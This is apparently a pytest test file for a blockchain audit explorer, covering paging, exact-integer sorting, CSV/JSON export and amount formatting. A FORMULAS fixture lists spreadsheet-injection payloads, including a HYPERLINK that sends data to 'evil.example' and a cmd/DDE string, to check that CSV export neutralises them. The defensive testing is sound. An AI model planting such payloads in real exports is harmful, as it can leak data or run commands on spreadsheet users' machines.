"""Paging, sorting, exports and amount formatting of the explorer, without a chain or a browser.

The browser tests drive these through real pages; here the edge cases: refused parameters,
exact ordering and export of integers far beyond 2**53 and 2**64, the chart's geometry.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from audit.csv_safe import number_cell, restore_cell, text_cell
from audit.explorer import chart
from audit.explorer.formatting import cell, idr, tonnes
from audit.explorer.tables import Column, Kind, PageRequest, page_of_rows, parse_request, to_csv, to_json
from common.errors import ValidationError

COLUMNS = (
    Column("account", "Holder", Kind.ADDRESS, sortable=True),
    Column("balance", "Balance", Kind.IDR, sortable=True),
    Column("note", "Note"),
)
HUGE = 2**200


def test_parse_request_reads_the_prefixed_parameters() -> None:
    params = {
        "holders_page": "3",
        "holders_size": "7",
        "holders_sort": "account",
        "holders_dir": "asc",
        "page": "9",
    }
    assert parse_request(params, "holders_", COLUMNS, 25, 200) == PageRequest(3, 7, "account", desc=False)
    assert parse_request({}, "holders_", COLUMNS, 25, 200) == PageRequest(1, 25, None, desc=True)


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"t_page": "0"}, "t_page must be an integer from 1"),
        ({"t_page": "-1"}, "t_page must be an integer from 1"),
        ({"t_page": "²"}, "t_page must be an integer from 1"),
        ({"t_page": "1" * 30}, "t_page must be an integer from 1"),
        ({"t_size": "abc"}, "t_size must be an integer from 1"),
        ({"t_size": "201"}, "t_size may be at most 200"),
        ({"t_sort": "note"}, "t_sort must be one of account, balance"),
        ({"t_dir": "up"}, "t_dir must be asc or desc"),
    ],
)
def test_parse_request_refuses_bad_parameters_by_name(params: dict[str, str], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        parse_request(params, "t_", COLUMNS, 25, 200)


def test_page_of_rows_sorts_exact_integers_then_slices() -> None:
    rows = [{"account": f"0x{i:040x}", "balance": HUGE + (i % 5)} for i in range(12)]
    page = page_of_rows(
        rows, COLUMNS, PageRequest(page=2, size=5), "balance", tie_break=lambda r: r["account"]
    )
    assert page.total == 12 and page.pages == 3 and page.sort == "balance"
    everything = page_of_rows(
        rows, COLUMNS, PageRequest(size=None), "balance", tie_break=lambda r: r["account"]
    )
    assert [r["balance"] for r in everything.rows] == sorted((r["balance"] for r in rows), reverse=True)
    assert page.rows == everything.rows[5:10]
    last = page_of_rows(rows, COLUMNS, PageRequest(page=3, size=5, sort="account", desc=False), "balance")
    assert [r["account"] for r in last.rows] == [f"0x{i:040x}" for i in (10, 11)]


def test_exports_carry_exact_integers_beyond_any_float() -> None:
    rows = [
        {"account": "0xabc", "balance": HUGE + 1, "note": None},
        {"account": "0xdef", "balance": 5, "note": "x,y"},
    ]
    page = page_of_rows(rows, COLUMNS, PageRequest(size=None), "balance")
    parsed = list(csv.DictReader(io.StringIO(to_csv(page))))
    assert [int(r["balance"]) for r in parsed] == [HUGE + 1, 5]
    assert parsed[1]["note"] == "x,y" and parsed[0]["note"] == ""
    document = json.loads(to_json(page, "holders", 42))
    assert document["as_of_block"] == 42 and document["total"] == 2
    assert [r["balance"] for r in document["rows"]] == [HUGE + 1, 5]
    assert document["columns"][1] == {"key": "balance", "title": "Balance", "kind": "idr"}


def test_amounts_show_rupiah_and_tonnes_with_the_exact_integer() -> None:
    assert (
        str(idr(1_500_050))
        == '<span class="amt" data-exact="1500050" title="1500050 sen">Rp 15.000,50</span>'
    )
    assert str(tonnes(1_200)) == '<span class="amt" data-exact="1200" title="1200 t CO2e">1.200 t</span>'
    assert f'data-exact="{HUGE}"' in str(cell(HUGE, Kind.IDR))
    assert str(cell(None, Kind.IDR)) == "&ndash;"
    # Text from the chain (a beneficiary name) is escaped, never markup.
    assert str(cell("<script>x</script>", Kind.TEXT)) == "&lt;script&gt;x&lt;/script&gt;"


def test_chart_steps_stay_inside_the_box() -> None:
    graph = chart.build([(10, 100), (20, 300)], [(5, 1_000)], 5, 30)
    assert graph.top == 1_000 and (graph.first_block, graph.last_block) == (5, 30)
    assert not graph.logarithmic
    assert chart.build([(10, 300)], [(5, 10**11)], 5, 30).logarithmic  # a far larger series
    for series in (graph.supply, graph.reserves):
        for point in series.split():
            x, y = (float(v) for v in point.split(","))
            assert 0 <= x <= chart.WIDTH and 0 <= y <= chart.HEIGHT
    # Reserves reach the top of the scale; supply stays below it.
    assert min(float(p.split(",")[1]) for p in graph.reserves.split()) == chart.PAD
    assert min(float(p.split(",")[1]) for p in graph.supply.split()) > chart.PAD


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]


def test_csv_exports_neutralise_formulas_in_text_but_keep_negative_integers_numeric() -> None:
    columns = [Column("who", "Beneficiary"), Column("delta", "Change", Kind.IDR), Column("tx", "Tx", Kind.TX)]
    rows: list[dict[str, object]] = [
        {"who": text, "delta": -(i + 1), "tx": text} for i, text in enumerate(FORMULAS)
    ]
    rows.append({"who": "Kota Madiun", "delta": -(HUGE + 1), "tx": "0xabc"})
    page = page_of_rows(rows, columns, PageRequest(size=None, sort="delta", desc=True), "delta")
    parsed = list(csv.DictReader(io.StringIO(to_csv(page), newline="")))
    for row in parsed:
        for key in ("who", "tx"):
            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert restore_cell(row[key]) in [*FORMULAS, "Kota Madiun", "0xabc"]
        assert int(row["delta"]) < 0 and row["delta"].lstrip("-").isdigit()  # numeric, exact, unquoted
    assert parsed[-1] == {"who": "Kota Madiun", "delta": str(-(HUGE + 1)), "tx": "0xabc"}
    assert {restore_cell(r["who"]) for r in parsed} == {*FORMULAS, "Kota Madiun"}
    # JSON is data, not a spreadsheet: unchanged.
    document = json.loads(to_json(page, "t", None))
    assert {r["who"] for r in document["rows"]} == {*FORMULAS, "Kota Madiun"}


def test_text_cell_and_restore_cell_are_inverse() -> None:
    for text in [*FORMULAS, "'=x", "''@y", "'plain", "plain", "", "-", "'", "0x12"]:
        cell = text_cell(text)
        assert not cell.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) or cell.startswith("'")
        assert restore_cell(cell) == text
    assert number_cell(-5) == "-5" and number_cell(True) == "True" and number_cell("=1") == "'=1"
